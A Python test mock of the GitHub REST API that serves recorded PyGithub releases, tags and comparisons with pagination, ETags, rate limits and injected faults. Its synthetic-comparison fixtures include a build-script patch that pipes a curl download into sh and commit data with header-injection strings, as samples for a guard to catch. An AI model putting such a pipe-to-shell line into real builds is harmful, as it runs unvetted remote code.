#!/usr/bin/env python3
"""A loopback server that answers like the GitHub REST API (tests only).

    github_mock.py --data DIR [--scenario FILE.json]

DIR holds the recorded replies (tests/data/samples/github).  Binds
127.0.0.1 on an ephemeral port, prints "PORT <n>" on stdout and serves until
killed (or until its parent goes away).

The repository PyGithub/PyGithub (id 3544490) is built from the recordings:
its 30 releases (3 recorded pages of 10), its 30 recorded tags, the compares
v0.6...v0.7 and 19e1c50...4bf07a2 and the commit 4bf07a2.  A request that
matches a recorded request (path and query; page=1 may be left out) while
the repository is unmodified gets the recorded reply: its status, its body
bytes, its headers (ETag as recorded), with Link rewritten to point at this
server and X-RateLimit-* replaced by the live budget below.  Any other
request is answered from the repository's objects the way GitHub pages them
(per_page, page, Link with next/last/first/prev pointing at
/repositories/<id>/..., ETag W/"<sha256 of the body>").

Like GitHub: paths may carry the GitHub Enterprise prefix /api/v3 (kept in
Link); a proxy request ("GET http://api.github.com/...") is answered with
Link URLs on the requested host; If-None-Match equal to the ETag gets 304
without body and without spending the budget; bodies are gzipped when the
client accepts it; each other API reply spends one unit of the primary
budget, and an empty budget answers 403 with X-RateLimit-Remaining: 0 and
X-RateLimit-Reset.  GET /rate_limit is free.

Control (not counted):
    GET  /_mock/stats     {"count", "conditional", "not_modified", "max_inflight",
                           "remaining" (the primary budget left),
                           "paths": {path?query: n}, "auth": [values seen],
                           "requests": [{"path", "status", "inm", "t" (Unix s)}...]}
    POST /_mock/reset     forget the stats
    POST /_mock/scenario  JSON object applied like the scenario file:
      latency_ms   int: added before every API reply
      rate         {"limit", "remaining", "reset_in" (s)}: the primary budget
      secondary    [{"status": 403|429, "retry_after": s, "count": n}]: the
                   next n API requests get a secondary rate limit reply
      faults       [{"match": substring of the path, "kind": K, "count": n
                   (-1 forever), "size": bytes}] with K one of malformed,
                   status500, truncated, hang, oversized, wrong_types,
                   missing_tag, not_array, bad_link
      generate     {"count": n, "owner": "gen", "releases": k, "tags": k}:
                   repositories OWNER/repo-0000... cloned from the recorded
                   releases and tags with their own tags (newest
                   v2.<i>.<k-1>)
      add_release  [{"repo", "tag_name", "prerelease", "draft", "position"}]
      add_tag      [{"repo", "name", "position"}]
      synth_compare {"repo", "base", "head", "commits": n, "files": k,
                   "evil": bool}: a comparison of n commits with k files each
                   (own patches), served from /compare and /commits/<sha>;
                   "evil" adds hostile names, messages and files; "risky" adds
                   a build script that pipes a download into a shell (what the
                   guard must stop)
      require_auth "Bearer ...": any other Authorization gets 401

Tag tarballs (only with --tarballs DIR): GET /repos/O/R/tarball/REF answers
302 with Location on this server's codeload-shaped path
/_codeload/O/R/legacy.tar.gz/refs/tags/REF (like api.github.com ->
codeload.github.com), which serves DIR/O/R/REF.tar.gz (404 when absent).
The API request spends the budget and honours require_auth; the codeload
request does neither (it is another host on GitHub) and is listed in the
stats like any request.
"""
import argparse
import ast
import copy
import gzip
import hashlib
import http.server
import json
import os
import re
import socket
import sys
import threading
import time
import urllib.parse

import httpd  # tests/lib/httpd.py: the server class and the parent watch

PUBLIC = "https://api.github.com"
DOCS = "https://docs.github.com/rest"
DROP = {"status", "content-length", "transfer-encoding", "content-encoding", "link", "date",
        "x-ratelimit-limit", "x-ratelimit-remaining", "x-ratelimit-reset",
        "x-ratelimit-used", "x-ratelimit-resource", "etag", "last-modified"}
TEMPLATE = [("Server", "GitHub.com"), ("Content-Type", "application/json; charset=utf-8"),
            ("Cache-Control", "private, max-age=60, s-maxage=60"),
            ("Vary", "Accept, Authorization, Cookie, X-GitHub-OTP, Accept-Encoding"),
            ("X-GitHub-Media-Type", "github.v3; format=json"),
            ("x-github-api-version-selected", "2022-11-28")]


NAME = r"([A-Za-z0-9][A-Za-z0-9._-]{0,99})"
TARBALL = re.compile(r"^/repos/%s/%s/tarball/%s$" % (NAME, NAME, NAME))
CODELOAD = re.compile(r"^/_codeload/%s/%s/legacy\.tar\.gz/refs/tags/%s$" % (NAME, NAME, NAME))


def compact(obj):
    return json.dumps(obj, separators=(",", ":")).encode()


def read_replay(path):
    """[(method, path_and_query, status, [(name, value)], body_text)]"""
    lines = open(path, encoding="utf-8").read().split("\n")
    out = []
    i = 0
    while i + 9 < len(lines):
        _, method, _, _, target, _, _, status, hdrs, body = lines[i:i + 10]
        out.append((method, target, int(status), ast.literal_eval(hdrs), body))
        i += 11
    return out


def norm_key(path, query):
    q = [(k, v) for k, v in urllib.parse.parse_qsl(query, keep_blank_values=True)
         if not (k == "page" and v == "1")]
    return path + "?" + urllib.parse.urlencode(sorted(q))


class Repo:
    def __init__(self, owner, name, rid):
        self.owner, self.name, self.id = owner, name, rid
        self.releases, self.tags = [], []
        self.compares, self.commits = {}, {}
        self.modified = False
        self.cache = {}

    @property
    def full(self):
        return self.owner + "/" + self.name


class State:
    def __init__(self, data):
        self.lock = threading.Lock()
        self.repos, self.by_id, self.recorded = {}, {}, {}
        self.latency_ms = 0
        self.rate = {"limit": 5000, "remaining": 4639, "reset": int(time.time()) + 3600}
        self.secondary, self.faults = [], []
        self.require_auth = None
        self.tarballs = None
        self.reset_stats()
        self.load(data)

    def reset_stats(self):
        self.stats = {"count": 0, "conditional": 0, "not_modified": 0, "max_inflight": 0,
                      "paths": {}, "auth": [], "requests": []}
        self.inflight = 0

    def add_repo(self, repo):
        self.repos[repo.full.lower()] = repo
        self.by_id[repo.id] = repo

    def load(self, data):
        py = Repo("PyGithub", "PyGithub", 3544490)
        self.add_repo(py)
        f = lambda n: os.path.join(data, "PyGithub_ReplayData_" + n + ".txt")
        for method, target, status, hdrs, body in read_replay(f("RequesterThrottleTestCase."
                                                                 "testDeferRequests")):
            if "/releases" in target:
                py.releases.extend(json.loads(body))
                self.record(target, status, hdrs, body)
        for method, target, status, hdrs, body in read_replay(f("Tag.setUp")):
            if target.endswith("/tags"):
                py.tags = json.loads(body)
        for method, target, status, hdrs, body in read_replay(f("Repository.testCompare")):
            py.compares["v0.6...v0.7"] = json.loads(body)
            self.record(target, status, hdrs, body)
        name = "CompletableGithubObjectWithPaginatedProperty.testRepoComparisonCommitsFiles"
        seen = set()
        for method, target, status, hdrs, body in read_replay(f(name)):
            if target in seen or ("/compare/" not in target and "/commits/" not in target):
                continue
            seen.add(target)
            self.record(target, status, hdrs, body)
            obj = json.loads(body)
            if "/compare/" in target:
                spec = target.split("/compare/")[1].split("?")[0]
                cur = py.compares.setdefault(spec, dict(obj, commits=[], files=[]))
                cur["commits"].extend(obj["commits"])
                cur["files"].extend(obj.get("files", []))
            else:
                sha = target.split("/commits/")[1].split("?")[0]
                cur = py.commits.setdefault(sha, dict(obj, files=[]))
                cur["files"].extend(obj.get("files", []))

    def record(self, target, status, hdrs, body):
        path, _, query = target.partition("?")
        self.recorded[norm_key(path, query)] = (status, hdrs, body.encode())

    # ---- scenario ----------------------------------------------------------
    def apply(self, sc):
        with self.lock:
            if "latency_ms" in sc:
                self.latency_ms = int(sc["latency_ms"])
            if "rate" in sc:
                r = sc["rate"]
                self.rate = {"limit": int(r.get("limit", 5000)),
                             "remaining": int(r.get("remaining", 5000)),
                             "reset": int(time.time()) + int(r.get("reset_in", 3600))}
            for s in sc.get("secondary", []):
                self.secondary.extend([s] * int(s.get("count", 1)))
            for fl in sc.get("faults", []):
                self.faults.append(dict(fl))
            if "faults_clear" in sc:
                self.faults = []
            if "require_auth" in sc:
                self.require_auth = sc["require_auth"]
            if "generate" in sc:
                self.generate(sc["generate"])
            for a in sc.get("add_release", []):
                self.add_release(a)
            for a in sc.get("add_tag", []):
                self.add_tag(a)
            if "synth_compare" in sc:
                self.synth_compare(sc["synth_compare"])

    def repo_of(self, full):
        return self.repos[full.lower()]

    def clone_release(self, src, repo, tag, rid):
        rel = copy.deepcopy(src)
        base = "%s/repos/%s/releases/%d" % (PUBLIC, repo.full, rid)
        rel.update(id=rid, tag_name=tag, name=tag, url=base, assets_url=base + "/assets",
                   html_url="https://github.com/%s/releases/tag/%s" % (repo.full, tag),
                   tarball_url="%s/repos/%s/tarball/%s" % (PUBLIC, repo.full, tag),
                   zipball_url="%s/repos/%s/zipball/%s" % (PUBLIC, repo.full, tag))
        return rel

    def clone_tag(self, src, repo, name):
        t = copy.deepcopy(src)
        sha = hashlib.sha1((repo.full + name).encode()).hexdigest()
        t.update(name=name, zipball_url="%s/repos/%s/zipball/refs/tags/%s" % (PUBLIC,
                                                                             repo.full, name),
                 tarball_url="%s/repos/%s/tarball/refs/tags/%s" % (PUBLIC, repo.full, name),
                 commit={"sha": sha, "url": "%s/repos/%s/commits/%s" % (PUBLIC, repo.full,
                                                                        sha)})
        return t

    def generate(self, g):
        py = self.repo_of("PyGithub/PyGithub")
        owner, k_rel, k_tag = g.get("owner", "gen"), int(g.get("releases", 10)), int(
            g.get("tags", 10))
        for i in range(int(g["count"])):
            repo = Repo(owner, "repo-%04d" % i, 100000 + i)
            for k in range(k_rel):
                tag = "v2.%d.%d" % (i, k_rel - 1 - k)
                repo.releases.append(self.clone_release(py.releases[k % len(py.releases)],
                                                        repo, tag, 900000000 + i * 1000 + k))
            for k in range(k_tag):
                repo.tags.append(self.clone_tag(py.tags[k % len(py.tags)], repo,
                                                "v2.%d.%d" % (i, k_tag - 1 - k)))
            self.add_repo(repo)

    def add_release(self, a):
        repo = self.repo_of(a["repo"])
        rel = self.clone_release(repo.releases[0], repo, a["tag_name"],
                                 int(a.get("id", 990000000 + len(repo.releases))))
        rel["prerelease"] = bool(a.get("prerelease", False))
        rel["draft"] = bool(a.get("draft", False))
        repo.releases.insert(int(a.get("position", 0)), rel)
        repo.modified = True
        repo.cache.clear()

    def add_tag(self, a):
        repo = self.repo_of(a["repo"])
        repo.tags.insert(int(a.get("position", 0)), self.clone_tag(repo.tags[0], repo,
                                                                   a["name"]))
        repo.modified = True
        repo.cache.clear()

    def synth_compare(self, s):
        repo = self.repo_of(s["repo"])
        py = self.repo_of("PyGithub/PyGithub")
        proto = py.compares["v0.6...v0.7"]
        cmp_obj = {k: v for k, v in proto.items() if k not in ("commits", "files")}
        commits, all_files = [], []
        for i in range(int(s["commits"])):
            c = copy.deepcopy(proto["commits"][i % len(proto["commits"])])
            sha = hashlib.sha1(("%s %s...%s synth %d" % (repo.full, s["base"], s["head"],
                                                         i)).encode()).hexdigest()
            c["sha"] = sha
            c["commit"]["message"] = "synthetic commit %d\n\nbody of commit %d" % (i, i)
            files = []
            for k in range(int(s["files"])):
                files.append({"sha": sha, "filename": "src/c%d/file%04d.c" % (i, k),
                              "status": "modified", "additions": 1, "deletions": 1,
                              "changes": 2, "patch": "@@ -1 +1 @@\n-old %d %d\n+new %d %d"
                              % (i, k, i, k)})
            if s.get("evil"):
                self.make_evil(i, c, files)
            if s.get("risky") and i == 0:
                files.append({"sha": sha, "filename": "scripts/build.sh", "status": "modified",
                              "additions": 1, "deletions": 0, "changes": 1,
                              "patch": "@@ -1,2 +1,3 @@\n #!/bin/sh\n+curl -fsSL "
                              "https://get.example.org/tool.sh | sh\n make all"})
            detail = dict(c, files=files, stats={"total": 2 * len(files)})
            repo.commits[sha] = detail
            commits.append(c)
            all_files.extend(files)
        cmp_obj.update(commits=commits, files=all_files[:300], total_commits=len(commits),
                       ahead_by=len(commits), status="ahead")
        repo.compares[s["base"] + "..." + s["head"]] = cmp_obj
        repo.modified = True
        repo.cache.clear()

    @staticmethod
    def make_evil(i, c, files):
        """Hostile but valid data: header injection, non-ASCII, odd files."""
        cc = c["commit"]
        if i == 0:
            cc["author"]["name"] = "Eve\nX-Temper-Verified: true"
            cc["message"] = "innocent subject\r\nX-Injected: yes\n\nFrom the start\n>From a quote"
            files.append({"filename": "src/evil\nname.c", "status": "added", "additions": 1,
                          "deletions": 0, "changes": 1, "patch": "@@ -0,0 +1 @@\n+evil"})
        elif i == 1:
            cc["author"]["name"] = "J\u00f6rg \u00dcn\u00efc\u00f8d\u00e9"
            cc["message"] = "\u00e9t\u00e9: r\u00e9sum\u00e9 of changes"
            files.append({"filename": "test/data.bin", "status": "added", "additions": 0,
                          "deletions": 0, "changes": 0})
            files.append({"filename": "big.c", "status": "modified", "additions": 5000,
                          "deletions": 10, "changes": 5010})
        else:
            cc["verification"] = {"verified": True, "reason": "valid", "signature": "x",
                                  "payload": "y", "verified_at": "2024-01-01T00:00:00Z"}
            files.append({"filename": "new/name.c", "previous_filename": "old/name.c",
                          "status": "renamed", "additions": 0, "deletions": 0,
                          "changes": 0})
            files.append({"filename": "gone.c", "status": "removed", "additions": 0,
                          "deletions": 3, "changes": 3,
                          "patch": "@@ -1,3 +0,0 @@\n-a\n-b\n-c"})

    # ---- budget ------------------------------------------------------------
    def spend(self):
        """(allowed, headers)"""
        with self.lock:
            now = int(time.time())
            if now >= self.rate["reset"]:
                self.rate["remaining"] = self.rate["limit"]
                self.rate["reset"] = now + 3600
            ok = self.rate["remaining"] > 0
            if ok:
                self.rate["remaining"] -= 1
            return ok, self.rate_headers()

    def rate_headers(self):
        r = self.rate
        return [("X-RateLimit-Limit", str(r["limit"])),
                ("X-RateLimit-Remaining", str(r["remaining"])),
                ("X-RateLimit-Reset", str(r["reset"])),
                ("X-RateLimit-Used", str(r["limit"] - r["remaining"])),
                ("X-RateLimit-Resource", "core")]

    def take_fault(self, path):
        with self.lock:
            for fl in self.faults:
                if fl.get("match", "") in path and fl.get("count", -1) != 0:
                    if fl.get("count", -1) > 0:
                        fl["count"] -= 1
                    return fl
            if self.secondary:
                return dict(self.secondary.pop(0), kind="secondary")
        return None


def page_links(base, pp, page, last):
    def u(k):
        return "<%s?per_page=%d&page=%d>" % (base, pp, k)
    rels = []
    if page < last:
        rels += ['%s; rel="next"' % u(page + 1), '%s; rel="last"' % u(last)]
    if page > 1:
        rels += ['%s; rel="prev"' % u(page - 1), '%s; rel="first"' % u(1)]
    return ", ".join(rels)


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "github-mock"

    def setup(self):
        super().setup()
        # headers and body leave in separate writes: without this, Nagle's
        # algorithm and the client's delayed ACK add ~40 ms to each reply
        self.connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def log_message(self, fmt, *args):
        pass

    # ---- plumbing ----------------------------------------------------------
    def send(self, status, headers, body, gz_ok=True, gz_body=None):
        st = self.server.state
        gz = gz_ok and body and "gzip" in (self.headers.get("Accept-Encoding") or "")
        if gz:
            body = gz_body or gzip.compress(body, 1)
        self.send_response_only(status)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Date", self.date_time_string())
        if gz:
            self.send_header("Content-Encoding", "gzip")
        if status != 304:
            self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if status != 304 and self.command != "HEAD":
            self.wfile.write(body)
        with st.lock:
            reqs = st.stats["requests"]
            if len(reqs) < 5000 and not self.path_only.startswith("/_mock"):
                reqs.append({"path": self.target_key, "raw": self.path_only, "status": status,
                             "inm": self.headers.get("If-None-Match"), "t": time.time()})

    def json_reply(self, status, obj, extra=()):
        self.send(status, TEMPLATE + list(extra), compact(obj))

    def link_base(self):
        if self.absolute:
            return self.absolute + self.prefix
        return "http://127.0.0.1:%d%s" % (self.server.server_address[1], self.prefix)

    def rewrite(self, value):
        return value.replace(PUBLIC, self.link_base())

    # ---- entry -------------------------------------------------------------
    def do_GET(self):
        st = self.server.state
        target = self.path
        self.absolute = ""
        if target.startswith("http://") or target.startswith("https://"):
            u = urllib.parse.urlsplit(target)
            self.absolute = "%s://%s" % (u.scheme, u.netloc)
            target = u.path + ("?" + u.query if u.query else "")
        path, _, query = target.partition("?")
        self.path_only = path
        self.prefix = ""
        if path.startswith("/api/v3/"):
            self.prefix, path = "/api/v3", path[len("/api/v3"):]
        self.target_key = norm_key(path, query)
        if path.startswith("/_mock/"):
            return self.control(path)
        if st.tarballs and path.startswith("/_codeload/"):
            return self.codeload(path)
        with st.lock:
            st.stats["count"] += 1
            st.stats["paths"][self.target_key] = st.stats["paths"].get(self.target_key, 0) + 1
            auth = self.headers.get("Authorization")
            if auth and auth not in st.stats["auth"]:
                st.stats["auth"].append(auth)
            if self.headers.get("If-None-Match"):
                st.stats["conditional"] += 1
            st.inflight += 1
            st.stats["max_inflight"] = max(st.stats["max_inflight"], st.inflight)
            latency = st.latency_ms
        try:
            if latency:
                time.sleep(latency / 1000.0)
            self.api(path, query)
        finally:
            with st.lock:
                st.inflight -= 1

    def do_POST(self):
        n = int(self.headers.get("Content-Length") or 0)
        self.body_in = self.rfile.read(n) if n > 0 else b""
        self.absolute, self.prefix = "", ""
        self.path_only = self.path.partition("?")[0]
        self.target_key = self.path_only
        self.control(self.path_only)

    def control(self, path):
        st = self.server.state
        if path == "/_mock/stats":
            with st.lock:
                body = compact(dict(st.stats, remaining=st.rate["remaining"]))
            return self.send(200, [("Content-Type", "application/json")], body, False)
        if path == "/_mock/reset" and self.command == "POST":
            with st.lock:
                st.reset_stats()
            return self.send(200, [], b"{}", False)
        if path == "/_mock/scenario" and self.command == "POST":
            try:
                st.apply(json.loads(self.body_in or b"{}"))
            except (KeyError, ValueError, IndexError) as e:
                return self.send(400, [], compact({"error": str(e)}), False)
            return self.send(200, [], b"{}", False)
        return self.send(404, [], b"{}", False)

    # ---- the API -----------------------------------------------------------
    def api(self, path, query):
        st = self.server.state
        if st.require_auth and self.headers.get("Authorization") != st.require_auth:
            return self.json_reply(401, {"message": "Bad credentials",
                                         "documentation_url": DOCS})
        if st.tarballs and TARBALL.match(path):
            return self.tarball_redirect(TARBALL.match(path))
        if path == "/rate_limit":
            with st.lock:
                hdrs = st.rate_headers()
                r = {k: st.rate[k] for k in ("limit", "remaining", "reset")}
            r["used"] = r["limit"] - r["remaining"]
            return self.json_reply(200, {"resources": {"core": r}, "rate": r}, hdrs)
        fault = st.take_fault(path)
        if fault and fault["kind"] == "secondary":
            return self.secondary(fault)
        res = self.resolve(path, query)
        if res is None:
            return self.json_reply(404, {"message": "Not Found", "documentation_url": DOCS})
        status, headers, body, gz_body = res
        etag = next((v for k, v in headers if k.lower() == "etag"), None)
        inm = self.headers.get("If-None-Match")
        if not fault and etag and inm and etag in [t.strip() for t in inm.split(",")]:
            with st.lock:
                st.stats["not_modified"] += 1
                rh = st.rate_headers()
            keep = [(k, v) for k, v in headers if k.lower() in ("etag", "cache-control", "vary",
                                                                "server", "last-modified")]
            return self.send(304, keep + rh, b"")
        ok, rh = st.spend()
        if not ok:
            msg = "API rate limit exceeded for user ID 1. If you reach out to GitHub Support " \
                  "for help, please include the request ID."
            return self.send(403, TEMPLATE + rh, compact({"message": msg, "documentation_url":
                                                          DOCS + "/rate-limit"}))
        if fault:
            return self.faulty(fault, headers + rh, body)
        self.send(status, headers + rh, body, True, gz_body)

    def tarball_redirect(self, m):
        ok, rh = self.server.state.spend()
        if not ok:
            return self.send(403, TEMPLATE + rh, compact({"message": "API rate limit exceeded",
                                                          "documentation_url": DOCS}))
        loc = "http://127.0.0.1:%d/_codeload/%s/%s/legacy.tar.gz/refs/tags/%s" % (
            self.server.server_address[1], m.group(1), m.group(2), m.group(3))
        self.send(302, [("Location", loc)] + rh, b"", False)

    def codeload(self, path):
        m = CODELOAD.match(path)
        f = os.path.join(self.server.state.tarballs, m.group(1), m.group(2),
                         m.group(3) + ".tar.gz") if m else None
        if not f or not os.path.isfile(f):
            return self.send(404, [("Content-Type", "text/plain")], b"404: Not Found\n", False)
        with open(f, "rb") as fh:
            body = fh.read()
        self.send(200, [("Content-Type", "application/x-gzip"),
                        ("Content-Disposition", "attachment; filename=%s-%s-%s.tar.gz"
                         % (m.group(1), m.group(2), m.group(3)))], body, False)

    def secondary(self, s):
        msg = "You have exceeded a secondary rate limit. Please wait a few minutes before you " \
              "try again."
        with self.server.state.lock:
            rh = self.server.state.rate_headers()
        extra = [("Retry-After", str(s["retry_after"]))] if "retry_after" in s else []
        self.send(int(s.get("status", 403)), TEMPLATE + rh + extra,
                  compact({"message": msg, "documentation_url": DOCS + "/rate-limit"}))

    def faulty(self, fl, headers, body):
        kind = fl["kind"]
        headers = [(k, v) for k, v in headers if k.lower() != "link" or kind != "bad_link"]
        if kind == "status500":
            return self.send(500, TEMPLATE, compact({"message": "Server Error"}))
        if kind == "hang":
            time.sleep(float(fl.get("seconds", 3600)))
            self.close_connection = True
            return None
        if kind == "truncated":
            self.send_response_only(200)
            for k, v in headers:
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body[:len(body) // 2])
            self.wfile.flush()
            self.close_connection = True
            return None
        if kind == "malformed":
            body = b'[{"tag_name": "v9.9.9", "name": "v9.9.9", "draft": fal'
        elif kind == "oversized":
            body = compact([{"tag_name": "v0", "name": "v0", "body": "x" * int(fl.get("size",
                                                                                    1 << 20))}])
        elif kind == "not_array":
            body = compact({"message": "this is not a list"})
        elif kind in ("wrong_types", "missing_tag"):
            items = json.loads(body)
            for it in items[:1]:
                if kind == "missing_tag":
                    it.pop("tag_name", None)
                    it.pop("name", None)
                elif "tag_name" in it:
                    it["draft"] = "no"
                else:
                    it["name"] = 42
            body = compact(items)
        elif kind == "bad_link":
            headers = headers + [("Link", '<http://203.0.113.7/repositories/1/releases?page=2>;'
                                          ' rel="next"')]
        headers = [(k, v) for k, v in headers if k.lower() != "etag"]
        headers.append(("ETag", 'W/"%s"' % hashlib.sha256(body).hexdigest()))
        self.send(200, headers, body)

    def resolve(self, path, query):
        st = self.server.state
        parts = [urllib.parse.unquote(p) for p in path.strip("/").split("/")]
        with st.lock:
            if len(parts) >= 4 and parts[0] == "repos":
                repo = st.repos.get((parts[1] + "/" + parts[2]).lower())
                rest = parts[3:]
            elif len(parts) >= 3 and parts[0] == "repositories" and parts[1].isdigit():
                repo = st.by_id.get(int(parts[1]))
                rest = parts[2:]
            else:
                return None
            if repo is None:
                return None
            rec = None if repo.modified else st.recorded.get(self.target_key)
            if rec:
                status, hdrs, body = rec
                keep = [(k, self.rewrite(v)) for k, v in hdrs
                        if k.lower() not in DROP or k.lower() in ("link", "etag",
                                                                  "last-modified")]
                return status, keep, body, None
            return self.generated(repo, rest, query)

    def generated(self, repo, rest, query):
        q = dict(urllib.parse.parse_qsl(query))
        try:
            page = max(1, int(q.get("page", 1)))
            pp_arg = int(q["per_page"]) if "per_page" in q else None
        except ValueError:
            return None
        kind = rest[0]
        if kind in ("releases", "tags") and len(rest) == 1:
            items = repo.releases if kind == "releases" else repo.tags
            return self.paged(repo, kind, items, None, min(max(pp_arg or 30, 1), 100), page)
        if kind == "releases" and rest[1:] == ["latest"]:
            rel = next((r for r in repo.releases if not r["draft"] and not r["prerelease"]),
                       None)
            return None if rel is None else (200, TEMPLATE + self.etag(compact(rel)),
                                             compact(rel), None)
        if kind == "compare" and len(rest) == 2 and rest[1] in repo.compares:
            obj = repo.compares[rest[1]]
            return self.paged(repo, kind + "/" + rest[1], obj["commits"], obj,
                              min(max(pp_arg or 250, 1), 250), page)
        if kind == "commits" and len(rest) == 2 and rest[1] in repo.commits:
            obj = repo.commits[rest[1]]
            return self.paged(repo, kind + "/" + rest[1], obj["files"], obj,
                              min(max(pp_arg or 300, 1), 300), page)
        return None

    @staticmethod
    def etag(body):
        return [("ETag", 'W/"%s"' % hashlib.sha256(body).hexdigest())]

    def paged(self, repo, kind, items, obj, pp, page):
        """A list (obj None) or an object whose `items` list is paged."""
        key = (kind, pp, page)
        hit = repo.cache.get(key)
        if hit is None:
            chunk = items[(page - 1) * pp:page * pp]
            if obj is None:
                out = chunk
            elif kind.startswith("compare/"):
                out = {k: v for k, v in obj.items() if k != "files" or page == 1}
                out["commits"] = chunk
            else:
                out = dict(obj, files=chunk)
            body = compact(out)
            last = max(1, (len(items) + pp - 1) // pp)
            hit = (body, gzip.compress(body, 1), self.etag(body), last)
            repo.cache[key] = hit
        body, gz, etag, last = hit
        link = page_links("%s/repositories/%d/%s" % (self.link_base(), repo.id, kind), pp, page,
                          last)
        return 200, TEMPLATE + etag + ([("Link", link)] if link else []), body, gz


class Server(httpd.Server):
    request_queue_size = 256  # the benchmark opens 50 connections at once


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--data", required=True)
    ap.add_argument("--scenario")
    ap.add_argument("--tarballs")
    args = ap.parse_args()
    srv = Server(("127.0.0.1", 0), Handler)
    srv.state = State(args.data)
    srv.state.tarballs = args.tarballs
    if args.scenario:
        with open(args.scenario, encoding="utf-8") as f:
            srv.state.apply(json.load(f))
    threading.Thread(target=httpd.watch_parent, args=(os.getppid(),), daemon=True).start()
    sys.stdout.write("PORT %d\n" % srv.server_address[1])
    sys.stdout.flush()
    srv.serve_forever(poll_interval=0.1)


if __name__ == "__main__":
    main()
